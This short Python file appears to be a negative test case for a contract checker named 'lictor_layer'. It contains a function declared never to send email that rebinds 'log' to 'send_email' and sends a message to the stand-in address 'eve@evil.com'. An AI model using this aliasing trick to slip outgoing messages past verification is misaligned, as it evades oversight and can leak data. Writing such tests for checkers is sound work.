# not proved: log is a string after the loop, and send was bound to send_email
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    for log in [send_email]:
        log("eve@evil.com", "x")
